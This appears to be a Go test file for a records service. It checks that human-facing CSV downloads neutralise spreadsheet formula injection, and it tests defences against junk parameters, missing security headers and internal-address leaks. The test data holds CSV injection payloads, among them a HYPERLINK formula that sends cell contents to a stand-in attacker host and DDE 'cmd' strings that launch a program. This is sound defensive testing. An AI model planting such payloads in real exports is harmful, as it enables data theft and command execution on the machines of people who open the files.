package faults_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
)

// formulaStarts are the first characters that make a spreadsheet read a
// cell as a formula.
const formulaStarts = "=+-@\t\r"

// Records whose free text is written to attack a spreadsheet (=HYPERLINK,
// +cmd|…, @SUM, a leading tab or carriage return) are published; the CSV
// meant for people (Chinese headers, byte-order mark) holds none of those
// cells as a formula, while the machine CSV keeps every value as stored.
func TestFormulaCellsInDownloads(t *testing.T) {
	d := deploy(t, false)
	srv := d.serve("--no-indexer")
	attacks := []string{`=HYPERLINK("http://attacker.example/?"&A1,"详情")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1"}
	var recs []map[string]string
	for i, a := range attacks {
		r := penalty(80_000 + i)
		r["CF_SY"], r["BZ"] = a, a
		recs = append(recs, r)
	}
	if _, _, err := d.publish(srv, recs...); err != nil {
		t.Fatal(err)
	}
	var requests, leaks int64
	cells := func(query string) [][]string {
		requests++
		status, _, body := get(srv.URL() + "/api/v1/datasets/penalties/download?" + query)
		if status != 200 {
			t.Fatalf("download ?%s: %d %.200s", query, status, body)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix([]byte(body), []byte("\uFEFF"))))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("download ?%s: %v", query, err)
		}
		return rows
	}
	for _, q := range []string{"format=csv&bom=1&headers=zh", "format=csv&headers=zh", "format=csv&bom=1"} {
		for _, row := range cells(q) {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
					leaks++
					t.Errorf("?%s: the cell %q would be read as a formula", q, cell)
				}
			}
		}
	}
	// The machine CSV (standard codes, no byte-order mark) is data for
	// programs: every value exactly as stored (ingest trims surrounding
	// white space).
	stored := map[string]bool{}
	for _, a := range attacks {
		stored[strings.TrimSpace(a)] = true
	}
	kept := 0
	for _, row := range cells("format=csv") {
		for _, cell := range row {
			if stored[cell] {
				kept++
			}
		}
	}
	if kept != 2*len(attacks) {
		t.Errorf("the machine CSV holds %d of the %d published values unchanged", kept, 2*len(attacks))
	}
	report(outcome{Scenario: "formula cells in CSV downloads", Requests: requests, Acked: int64(len(recs)), Stored: int64(len(recs)),
		Leaks: leaks, Note: fmt.Sprintf("%d attack values in 2 fields", len(attacks))})
}

// Hostile requests against a private deployment whose Meilisearch is
// down: random junk parameters on the home page add no Redis key and are
// refused; every page and API answer carries the security headers; a
// client that is not the host itself (here: a request a proxy forwarded)
// learns which dependency is down, not its internal address.
func TestHostileRequests(t *testing.T) {
	d := deploy(t, false)
	srv := d.serve("--no-indexer")
	if status, _, body := get(srv.URL() + "/"); status != 200 {
		t.Fatalf("home: %d %.200s", status, body)
	}
	keys := func() int64 { n, _ := d.redis.Do("DBSIZE").(int64); return n }
	before := keys()
	var requests, leaks int64
	n := scale(200, 2000)
	for i := range n {
		requests++
		status, _, _ := get(fmt.Sprintf("%s/?zz=%d", srv.URL(), i))
		if status != 400 {
			leaks++
			t.Errorf("/?zz=%d: %d, want 400", i, status)
			break
		}
	}
	if grown := keys() - before; grown > 2 {
		leaks++
		t.Errorf("%d junk-parameter requests added %d Redis keys", n, grown)
	}
	for _, path := range []string{"/", "/stats", "/api/v1/penalties", "/nowhere", "/api/v1/penalties?zz=1"} {
		requests++
		resp, err := client.Get(srv.URL() + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		h := resp.Header
		if !strings.Contains(h.Get("Content-Security-Policy"), "frame-ancestors 'none'") ||
			strings.Contains(h.Get("Content-Security-Policy"), "unsafe-inline") || h.Get("X-Content-Type-Options") != "nosniff" ||
			h.Get("X-Frame-Options") != "DENY" || h.Get("Referrer-Policy") == "" {
			leaks++
			t.Errorf("%s: security headers %v", path, h)
		}
	}
	req, _ := http.NewRequest(http.MethodGet, srv.URL()+"/readyz", nil)
	req.Header.Set("X-Forwarded-For", "203.0.113.9")
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	requests++
	if !strings.Contains(string(b), `"meilisearch":"down (degraded)"`) || strings.Contains(string(b), "127.0.0.1") {
		leaks++
		t.Errorf("/readyz from outside: %s", b)
	}
	report(outcome{Scenario: "hostile requests: junk parameters, headers, readyz", Requests: requests, Leaks: leaks,
		Note: fmt.Sprintf("%d junk-parameter requests, Redis keys +%d", n, keys()-before)})
}
